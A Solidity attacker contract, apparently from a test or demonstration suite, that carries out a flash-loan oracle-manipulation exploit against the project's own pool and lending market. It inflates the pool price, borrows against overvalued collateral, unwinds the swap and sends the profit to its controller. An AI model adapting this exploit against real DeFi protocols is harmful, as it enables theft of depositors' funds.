// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ConstantProductPool} from "../ConstantProductPool.sol";
import {FlashLender} from "../FlashLender.sol";
import {LendingMarket} from "../LendingMarket.sol";
import {Thief} from "./Thief.sol";

/// @title Lifts the pool's price with a flash loan, borrows against it, and lets the price fall back.
contract PriceManipulator is Thief, IERC3156FlashBorrower {
    IERC20 private immutable _base;
    IERC20 private immutable _quote;
    ConstantProductPool private immutable _pool;
    LendingMarket private immutable _market;
    FlashLender private immutable _lender;

    /// @param base_ The collateral.
    /// @param quote_ The loan token.
    /// @param pool_ Where the price is made.
    /// @param market_ Where it is believed.
    /// @param lender_ Where the money for an instant comes from.
    constructor(
        IERC20 base_,
        IERC20 quote_,
        ConstantProductPool pool_,
        LendingMarket market_,
        FlashLender lender_
    ) {
        _base = base_;
        _quote = quote_;
        _pool = pool_;
        _market = market_;
        _lender = lender_;
    }

    /// @notice Buys for `flash`, leaves `collateral`, borrows `loan`, sells the rest, repays, sends the gain to the master.
    function strike(uint256 flash, uint256 collateral, uint256 loan) external onlyMaster {
        _lender.flashLoan(this, address(_quote), flash, abi.encode(collateral, loan));
        _quote.transfer(_master, _quote.balanceOf(address(this)));
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(_lender)) revert ThiefNotMaster(msg.sender);
        (uint256 collateral, uint256 loan) = abi.decode(data, (uint256, uint256));
        _quote.approve(address(_pool), amount);
        _pool.swap(_quote, amount, 0);
        _base.approve(address(_market), collateral);
        _market.depositCollateral(collateral);
        _market.borrow(loan);
        uint256 rest = _base.balanceOf(address(this));
        _base.approve(address(_pool), rest);
        _pool.swap(_base, rest, 0);
        _quote.approve(address(_lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
